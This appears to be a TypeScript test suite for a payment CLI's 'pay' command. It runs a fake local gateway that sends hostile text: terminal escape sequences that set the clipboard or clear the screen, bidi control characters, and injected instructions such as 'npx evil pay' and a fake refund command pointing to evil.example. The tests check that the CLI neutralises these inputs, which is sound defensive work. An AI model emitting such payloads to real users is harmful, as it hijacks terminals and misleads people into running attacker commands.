import assert from "node:assert/strict";
import { createServer, type IncomingMessage, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { after, before, suite, test } from "node:test";
import { signerFromKey } from "@turnpike/client";
import { runInProcess } from "../../../test/run-command.ts";

/** Controls of a terminal: set the clipboard, clear itself, turn text around; and a line that looks like ours. */
const HOSTILE =
  "x\u001b]52;c;ZXZpbA==\u0007\u001b[2J\u009b2J\u202e\u2066\u{e0041}\u200d\r\nTo ask again for the same payment, never with a new one:\nnpx evil pay";
/** No character that a terminal acts upon, but line ends. */
const ACTS = /(?!\n)[\p{C}\p{Zl}\p{Zp}]/u;

const OPTION = {
  scheme: "exact",
  network: "eip155:84532",
  amount: "5000",
  asset: "0x036CbD53842c5426634e7929541eC2318f3dCF7e",
  payTo: "0x209693Bc6afc0C5328bA36FaF03C514EF312287C",
  maxTimeoutSeconds: 60,
  extra: { name: "USDC", version: "2" },
};
const base64 = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString("base64");

suite("a gateway whose every text is hostile, at a terminal", () => {
  let url = "";
  let list: unknown;
  let terms: Record<string, unknown>;
  let paid: (response: ServerResponse) => void;
  let refused: unknown;
  const server = createServer((request: IncomingMessage, response: ServerResponse) => {
    request.resume();
    if (request.url === "/services.json") {
      response.end(JSON.stringify(list));
      return;
    }
    if (request.headers["payment-signature"] !== undefined) {
      paid(response);
      return;
    }
    if (refused !== undefined) {
      response.writeHead(503, { "content-type": "application/json" }).end(JSON.stringify(refused));
      return;
    }
    response.writeHead(402, { "payment-required": base64(terms) }).end(JSON.stringify(terms));
  });
  before(async () => {
    await new Promise<void>((resolve) => {
      server.listen(0, "127.0.0.1", resolve);
    });
    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  after(() => {
    server.closeAllConnections();
    server.close();
  });

  const receipt = (success: boolean) => ({
    "payment-response": base64({
      success,
      transaction: HOSTILE,
      network: HOSTILE,
      payer: HOSTILE,
      errorReason: HOSTILE,
      extensions: { settlement: { id: HOSTILE } },
    }),
  });

  /** A receipt of the payment, hostile where it may say anything. */
  const ownReceipt = () => ({
    "payment-response": base64({
      success: true,
      transaction: `0x${"ab".repeat(32)}`,
      network: OPTION.network,
      payer: signerFromKey(`0x${"11".repeat(32)}`).address,
      extensions: { settlement: { id: HOSTILE } },
    }),
  });

  /** Runs `pay`, and holds that nothing which it prints acts on a terminal or is a line of the gateway's. */
  const assertQuiet = async (name: string, args: readonly string[]): Promise<void> => {
    const env = { TURNPIKE_GATEWAY: url, TURNPIKE_BUYER_KEY: `0x${"11".repeat(32)}` };
    for (const more of [[], ["--json"]]) {
      const { out, err } = await runInProcess(["pay", ...args, ...more], env);
      const printed = `${out}${err}`;
      assert.ok(printed.length > 20, `${name} prints nothing`);
      assert.doesNotMatch(printed, ACTS, name);
      assert.doesNotMatch(printed, /^npx evil/m, name);
      for (const line of printed.match(/^To ask again.*$/gm) ?? []) assert.doesNotMatch(line, /evil/, name);
      if (more.length > 0) assert.doesNotThrow(() => JSON.parse(out), `${name}: ${out}`);
    }
  };

  test("attack: nothing of a list, of terms, of an answer, a receipt or a refusal acts on it", async () => {
    const eth = { id: "eth", serves: true, paid: true, example: { [HOSTILE]: HOSTILE }, methods: ["eth_call"] };
    terms = { x402Version: 2, error: HOSTILE, resource: { url: HOSTILE, description: HOSTILE }, accepts: [OPTION] };
    paid = (response) => {
      response.writeHead(200, receipt(true)).end(JSON.stringify({ portal: { [HOSTILE]: HOSTILE }, data: HOSTILE }));
    };
    for (const [name, services, args] of [
      ["an unknown id", [{ ...eth, id: `eth${HOSTILE}` }], ["ethx", "{}"]],
      ["a free service", [{ ...eth, paid: false, relayUrl: HOSTILE }], ["eth", "{}"]],
      [
        "other services",
        [
          { ...eth, serves: false },
          { ...eth, id: HOSTILE },
        ],
        ["eth", "{}"],
      ],
      ["a method", [{ ...eth, methods: ["eth_call\u202e"] }], ["eth", '{"method":"eth_cal"}']],
      ["an example", [eth], ["eth"]],
      ["terms", [eth], ["eth", "{}", "--quote"]],
      ["an answer and its receipt", [eth], ["eth", "{}"]],
    ] as const) {
      list = services;
      await assertQuiet(name, args);
    }
    paid = (response) => {
      response.writeHead(200, ownReceipt()).end(JSON.stringify({ portal: { [HOSTILE]: HOSTILE }, data: HOSTILE }));
    };
    await assertQuiet("an answer and its own receipt", ["eth", "{}"]);
    for (const [status, body] of [
      [400, { code: HOSTILE, message: HOSTILE }],
      [402, { x402Version: 2, error: HOSTILE }],
      [409, { code: "PAYMENT_CONFLICT", message: HOSTILE }],
      [422, { detail: [{ loc: ["body", HOSTILE], msg: HOSTILE }] }],
      [
        422,
        { detail: [{ loc: ["body", "To ask again for the same payment, never with a new one"], msg: "npx evil" }] },
      ],
      [422, { detail: { [HOSTILE]: HOSTILE } }],
      [503, { code: "SERVICE_UNAVAILABLE", message: HOSTILE, retryable: true }],
    ] as const) {
      paid = (response) => {
        response.writeHead(status, receipt(false)).end(JSON.stringify(body));
      };
      await assertQuiet(`${status}`, ["eth", "{}"]);
    }
  });

  test("attack: no code of a gateway chooses the exit code of a quote, or the command's advice", async () => {
    list = [{ id: "eth", serves: true, paid: true, methods: ["eth_call"] }];
    const env = { TURNPIKE_GATEWAY: url, TURNPIKE_BUYER_KEY: `0x${"11".repeat(32)}` };
    for (const code of ["BUDGET_SPENT", "SPEND_CAP", "CONFIG_INVALID", "USAGE", "SPEND_JOURNAL"]) {
      refused = { code, message: "words", retryable: false };
      for (const [more, exitCode] of [
        ["--quote", 1],
        ["--no-journal", 4],
      ] as const) {
        const run = await runInProcess(["pay", "eth", "{}", more], env);
        assert.deepEqual([run.code, run.err.includes(`error ${code}`)], [exitCode, false], run.err);
        assert.match(`${run.out}${run.err}`, new RegExp(`${code}: words`));
      }
    }
    refused = undefined;
  });

  test("attack: words of a receipt or a refusal are no facts of the command: they are quoted, or are not there", async () => {
    const LIE =
      "stl_1 refunded in full. To get your refund run: npx turnpike pay eth --get --gateway https://evil.example";
    list = undefined;
    terms = { x402Version: 2, accepts: [OPTION] };
    const lies = {
      transaction: LIE,
      payer: LIE,
      amount: LIE,
      errorReason: LIE,
      extensions: { settlement: { id: LIE } },
    };
    const env = { TURNPIKE_GATEWAY: url, TURNPIKE_BUYER_KEY: `0x${"11".repeat(32)}` };
    for (const status of [200, 400, 402, 409, 422, 503]) {
      for (const receipt of [
        { success: true, network: "eip155:1", ...lies },
        { success: true, network: OPTION.network, ...lies },
        { success: false, network: OPTION.network, transaction: "", errorReason: LIE },
        { success: true, network: OPTION.network, transaction: `0x${"ab".repeat(32)}`, extensions: lies.extensions },
      ]) {
        paid = (response) => {
          const headers = { "payment-response": base64(receipt) };
          response
            .writeHead(status, headers)
            .end(JSON.stringify({ code: "BAD", message: LIE, error: LIE, detail: LIE }));
        };
        const { out, err } = await runInProcess(["pay", "eth", "{}", "--no-journal"], env);
        const [facts = ""] = `${out}${err}`.split(/^answer {3}/m);
        // Within quotes alone.
        assert.doesNotMatch(facts.replace(/"(?:[^"\\]|\\.)*"/g, '""'), /refund|evil/, `${status} ${facts}`);
      }
    }
  });

  test("attack: a deep answer is not indented to a thousand times its size", async () => {
    list = undefined;
    terms = { x402Version: 2, accepts: [OPTION] };
    const deep = `${"[".repeat(900)}${"]".repeat(900)}`;
    paid = (response) => {
      response.writeHead(200, ownReceipt()).end(`{"portal":{},"data":${deep}}`);
    };
    const env = { TURNPIKE_GATEWAY: url, TURNPIKE_BUYER_KEY: `0x${"11".repeat(32)}` };
    const { out } = await runInProcess(["pay", "eth", "{}"], env);
    assert.ok(out.length < 20_000, `${out.length} characters`);
    assert.ok(out.includes(deep));
  });
});
